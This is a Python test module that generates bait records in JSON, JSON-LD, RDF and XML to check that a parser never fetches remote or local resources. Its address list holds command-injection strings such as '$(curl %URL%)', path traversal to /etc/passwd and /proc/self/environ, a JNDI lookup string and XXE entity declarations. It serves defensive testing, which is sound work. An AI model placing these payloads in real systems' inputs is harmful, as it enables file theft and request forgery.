"""Write the records that make naive readers fetch; ``%URL%`` and ``%FILE%`` are the baits."""

from __future__ import annotations

import json
from dataclasses import dataclass
from typing import Any

from tests.silence.canary import Canary, Files

JSON, JSONLD = "application/json", "application/ld+json"
TURTLE, NTRIPLES = "text/turtle", "application/n-triples"
RDFXML, TRIX, XML = "application/rdf+xml", "application/trix", "text/xml"
REC = "https://w3id.org/necessity/record#"


@dataclass(frozen=True)
class Payload:
    """Hold one body: its name, its media type, its text, and the suffix of the file it names."""

    name: str
    form: str
    text: str
    suffix: str = "ttl"


@dataclass(frozen=True)
class Lures:
    """Hold the addresses that are put in place of ``%URL%``, ``%FILE%`` and their kin."""

    canary: Canary
    files: Files

    def put(self, text: str, suffix: str = "ttl") -> str:
        """Return a text with the addresses of the baits in it."""
        url = self.canary.url
        for place, value in (
            ("%URLTAIL%", url[1:]), ("%URL%", url), ("%FILE%", self.files.url(suffix)),
            ("%PATH%", str(self.files.path(suffix))), ("%PORT%", str(self.canary.port)),
        ):  # fmt: skip
            text = text.replace(place, value)
        return text


ADDRESSES = (
    "%URL%", "%FILE%", "%PATH%", "<%URL%>", "http://localhost:%PORT%/", "http://2130706433:%PORT%/",
    "http://0x7f.1:%PORT%/", "http://[::ffff:127.0.0.1]:%PORT%/", "//127.0.0.1:%PORT%/",
    "http://a@127.0.0.1:%PORT%/", "HTTP://127.0.0.1:%PORT%/", "ftp://127.0.0.1:%PORT%/x",
    "jar:%URL%!/x", "url:%URL%", "file:%PATH%", "file://localhost%PATH%", "\\\\127.0.0.1\\c$\\x",
    "../../../../../../../../etc/passwd", "/etc/passwd", "file:///etc/passwd", "/proc/self/environ",
    "${jndi:ldap://127.0.0.1:%PORT%/x}", "{{ url_for('%URL%') }}", "`curl %URL%`", "$(curl %URL%)",
    "| curl %URL%", "@%PATH%", "%PATH%\x00.json", "<img src='%URL%'>", "![x](%URL%)",
    "<!DOCTYPE a SYSTEM '%URL%'>", '=WEBSERVICE("%URL%")', "SERVICE <%URL%> {}",
)  # fmt: skip


def records() -> list[Payload]:
    """Return records in JSON with an address in each place that takes text."""
    found = [
        Payload(f"{place} says {address}", JSON, json.dumps(record))
        for address in ADDRESSES
        for place, record in _with(address).items()
    ]
    for key in ("$schema", "$ref", "@context", "@id", "@type", "owl:imports", "sh:shapesGraph",
                "href", "url", "policy_url", "knowledge", "ontology"):  # fmt: skip
        found.append(Payload(f"key {key}", JSON, json.dumps({key: "%URL%", "procedures": []})))
        found.append(Payload(f"key {key} of a file", JSON, json.dumps({key: "%FILE%"})))
    return found


def _with(address: str) -> dict[str, Any]:
    """Return a record for each place, and one with all of them that can be admitted together."""
    places: dict[str, Any] = {
        "id": {"id": address},
        "policy": {"policy": address},
        "date": {"date_of_service": address},
        "code": {"procedures": [{"code": address, "system": address}]},
        "words": {"procedures": [{"text": address, "levels": [address], "approach": address}]},
        "diagnosis": {"diagnoses": [{"text": address, "code": address, "system": address}]},
        "service": {"services": [{"code": address, "system": address}]},
        "feature": {"risk_features": {"present": [address], "absent": [address]}},
        "rationale": {"documentation": {"rationale": address}},
        "document": {"documentation": {"items": [address]}},
    }
    whole = {
        "id": address,
        "procedures": [{"text": address, "laterality": address, "approach": address}],
        "diagnoses": [{"text": address}],
        "documentation": {"rationale": f"{address} spinal cord"},
    }
    return {**places, "whole": whole}


def admitted(address: str) -> str:
    """Return a record that is admitted, with an address wherever text is free."""
    return json.dumps(_with(address)["whole"] | {"date_of_service": "2025-05-17"})


def contexts() -> list[Payload]:
    """Return documents in JSON-LD that name what is to be fetched."""
    own = {"@vocab": REC}
    remote: dict[str, Any] = {}
    for name, url in (("address", "%URL%"), ("file", "%FILE%"), ("path", "%PATH%")):
        remote |= {
            f"context is an {name}": {"@context": url, "id": "a"},
            f"contexts end with an {name}": {"@context": [own, url], "id": "a"},
            f"context after null is an {name}": {"@context": [None, url], "id": "a"},
            f"a thousand of an {name}": {"@context": [url] * 1000},
            f"imports an {name}": {"@context": {"@version": 1.1, "@import": url}},
            f"inner imports an {name}": {"@context": [own, {"@version": 1.1, "@import": url}]},
            f"inner context is an {name}": {"@context": own, "procedures": [{"@context": url}]},
            f"scoped to a term, an {name}": {
                "@context": {**own, "id": {"@id": f"{REC}id", "@context": url}}, "id": {"x": "y"},
            },
            f"scoped to a type, an {name}": {
                "@context": {**own, "T": {"@id": "urn:T", "@context": url}}, "@type": "T",
            },
            f"within a graph, an {name}": {"@context": own, "@graph": [{"@context": url}]},
            f"within an included node, an {name}": {"@included": [{"@context": url}]},
            f"context by id of an {name}": {"@context": {"@id": url}},
            f"in a list, an {name}": [{"@context": url}, {"@id": "urn:a"}],
            f"imports owl of an {name}": {"@id": "", "http://www.w3.org/2002/07/owl#imports":
                                          {"@id": url}},
            f"vocabulary of an {name}": {"@context": {"@vocab": url}, "x": "y"},
            f"type is an {name}": {"@context": own, "@type": url, "@id": url},
            f"base is an {name}": {"@context": [{"@base": url}, "context.jsonld"], "id": "a"},
            f"no propagation of an {name}": {"@context": [{"@propagate": False}, url]},
            f"nested by an {name}": {"@context": {**own, "n": "@nest"}, "n": {"@context": url}},
            f"reversed by an {name}": {"@context": own, "@reverse": {"a": {"@context": url}}},
        }  # fmt: skip
    found = [Payload(n, JSONLD, json.dumps(d), "jsonld") for n, d in remote.items()]
    hidden = '{"\\u0040context": "%URL%", "id": "a"}'
    twice = f'{{"@context": {{"@vocab": "{REC}"}}, "@context": "%URL%", "id": "a"}}'
    page = '<script type="application/ld+json">{"@context": "%URL%"}</script>'
    return [*found, Payload("escaped context", JSONLD, hidden), Payload("two", JSONLD, twice),
            Payload("in a page", "text/html", page), Payload("page in JSON-LD", JSONLD, page)]  # fmt: skip


_LINKS = {
    "owl:imports": "http://www.w3.org/2002/07/owl#imports",
    "sh:shapesGraph": "http://www.w3.org/ns/shacl#shapesGraph",
    "sh:suggestedShapesGraph": "http://www.w3.org/ns/shacl#suggestedShapesGraph",
    "sh:entailment": "http://www.w3.org/ns/shacl#entailment",
    "sh:jsLibraryURL": "http://www.w3.org/ns/shacl#jsLibraryURL",
    "rdfs:seeAlso": "http://www.w3.org/2000/01/rdf-schema#seeAlso",
    "rdfs:isDefinedBy": "http://www.w3.org/2000/01/rdf-schema#isDefinedBy",
    "void:dataDump": "http://rdfs.org/ns/void#dataDump",
    "sd:endpoint": "http://www.w3.org/ns/sparql-service-description#endpoint",
    "dcterms:source": "http://purl.org/dc/terms/source",
    "log:semantics": "http://www.w3.org/2000/10/swap/log#semantics",
    "rdf:type": "http://www.w3.org/1999/02/22-rdf-syntax-ns#type",
    "xhv:transformation": "http://www.w3.org/2003/g/data-view#transformation",
    "rec:policy": f"{REC}policy",
}
_TYPED = {
    "anyURI": ("http://www.w3.org/2001/XMLSchema#anyURI", "%URL%"),
    "XMLLiteral": ("http://www.w3.org/1999/02/22-rdf-syntax-ns#XMLLiteral",
                   "<!DOCTYPE a [<!ENTITY b SYSTEM '%URL%'>]><a>&b;</a>"),
    "HTML": ("http://www.w3.org/1999/02/22-rdf-syntax-ns#HTML", "<img src='%URL%'>"),
    "JSON": ("http://www.w3.org/1999/02/22-rdf-syntax-ns#JSON", "{'@context': '%URL%'}"),
    "GML": ("http://www.opengis.net/ont/geosparql#gmlLiteral", "<a href='%FILE%'/>"),
}  # fmt: skip


def triples() -> list[Payload]:
    """Return records in RDF that point elsewhere, in Turtle, N-Triples and their kin."""
    found = []
    case = f'<urn:c> a <{REC}CaseRecord> ; <{REC}id> "a" .\n'
    for name, iri in _LINKS.items():
        for about in ("<>", "<urn:c>", "<%URL%>"):
            for to in ("<%URL%>", "<%FILE%>"):
                text = f"{case}{about} <{iri}> {to} .\n"
                found.append(Payload(f"{about} {name} {to}", TURTLE, text))
        lines = f"<urn:c> <{iri}> <%URL%> .\n<urn:c> <{iri}> <%FILE%> .\n"
        found.append(Payload(f"lines {name}", NTRIPLES, lines))
        found.append(Payload(f"quads {name}", "application/n-quads", lines))
        found.append(Payload(f"graph {name}", "application/trig", f"GRAPH <%URL%> {{ {lines} }}"))
        found.append(Payload(f"formula {name}", "text/n3", f"{{ {lines} }} => {{ {lines} }} ."))
    for name, (datatype, value) in _TYPED.items():
        for key in ("id", "rationale"):
            text = f'{case}<urn:c> <{REC}{key}> "{value}"^^<{datatype}> .'
            found.append(Payload(f"{key} is {name}", TURTLE, text))
    return [
        *found,
        Payload("base", TURTLE, f"@base <%URL%> . {case}<> <#p> <x> ."),
        Payload("prefix", TURTLE, f"PREFIX : <%FILE%> {case}:a :b :c ."),
        Payload("import of others", TURTLE, f"@import <%URL%> . {case}"),
        Payload("version and base", TURTLE, f'VERSION "1.2"\nBASE <%FILE%>\n{case}'),
        Payload("context", TURTLE, f"# @context <%URL%>\n{case}"),
    ]


_NS = 'xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"'
_HEADS = {
    "entity": '<!DOCTYPE a [<!ENTITY x SYSTEM "%TO%">]>',
    "public entity": '<!DOCTYPE a [<!ENTITY x PUBLIC "-//x" "%TO%">]>',
    "subset": '<!DOCTYPE a SYSTEM "%TO%" [<!ENTITY x "y">]>',
    "public subset": '<!DOCTYPE a PUBLIC "-//x//EN" "%TO%" [<!ENTITY x "y">]>',
    "parameter": '<!DOCTYPE a [<!ENTITY % p SYSTEM "%TO%"> %p; <!ENTITY x "y">]>',
    "notation": '<!DOCTYPE a [<!NOTATION n SYSTEM "%TO%"><!ENTITY x "y">]>',
    "stylesheet": '<?xml-stylesheet type="text/xsl" href="%TO%"?><!DOCTYPE a [<!ENTITY x "y">]>',
}
_BODIES = {
    RDFXML: f'<rdf:RDF {_NS}><rdf:Description rdf:about="urn:a"><p xmlns="urn:">&x;</p>'
    '<i xmlns="urn:" rdf:resource="%TO%"/></rdf:Description></rdf:RDF>',
    TRIX: '<TriX xmlns="http://www.w3.org/2004/03/trix/trix-1/"><graph><triple><uri>urn:a</uri>'
    "<uri>urn:b</uri><plainLiteral>&x;</plainLiteral></triple></graph></TriX>",
    "application/sparql-results+xml": '<sparql xmlns="http://www.w3.org/2005/sparql-results#">'
    "<head/><results><result><binding name='a'><uri>&x;</uri></binding></result></results></sparql>",
    XML: '<a xmlns:xi="http://www.w3.org/2001/XInclude" xml:base="%TO%" '
    'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="urn:a %TO%">'
    '&x;<xi:include href="%TO%"/><xi:include parse="text" href="%TO%"/></a>',
    "application/xhtml+xml": '<html xmlns="http://www.w3.org/1999/xhtml"><head profile="%TO%">'
    '<link rel="transformation" href="%TO%"/></head><body about="%TO%">&x;</body></html>',
    "image/svg+xml": '<svg xmlns="http://www.w3.org/2000/svg"><image href="%TO%"/>&x;</svg>',
}


def markup() -> list[Payload]:
    """Return XML that includes, transforms or resolves what lies elsewhere."""
    return [
        Payload(
            f"{name} {to} {form}", form,
            '<?xml version="1.0"?>\n' + head.replace("%TO%", to) + body.replace("%TO%", to), suffix,
        )
        for name, head in _HEADS.items()
        for form, body in _BODIES.items()
        for to, suffix in (("%URL%", "dtd"), ("%FILE%", "dtd"), ("%PATH%", "txt"))
    ]  # fmt: skip


def payloads() -> list[Payload]:
    """Return every body."""
    return [*contexts(), *triples(), *markup(), *records()]
